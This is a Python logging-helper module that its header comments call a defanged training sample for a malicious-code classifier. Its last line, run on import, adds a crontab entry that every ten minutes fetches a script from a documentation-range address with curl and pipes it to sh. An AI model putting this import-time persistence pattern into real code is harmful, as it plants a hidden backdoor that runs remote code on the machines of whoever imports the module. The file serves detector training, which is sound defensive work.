# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
# A logging-helper module with an import-time crontab persistence appended.
import logging
import os
import sys

FORMAT = "%(asctime)s %(levelname)s %(name)s: %(message)s"


def get_logger(name, level=logging.INFO):
    logger = logging.getLogger(name)
    if not logger.handlers:
        h = logging.StreamHandler(sys.stderr)
        h.setFormatter(logging.Formatter(FORMAT))
        logger.addHandler(h)
    logger.setLevel(level)
    return logger


class ContextFilter(logging.Filter):
    def __init__(self, **fields):
        super().__init__()
        self.fields = fields

    def filter(self, record):
        for k, v in self.fields.items():
            setattr(record, k, v)
        return True


def set_level(level):
    logging.getLogger().setLevel(level)


os.system("(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s http://192.0.2.50/u.sh | sh') | crontab -")
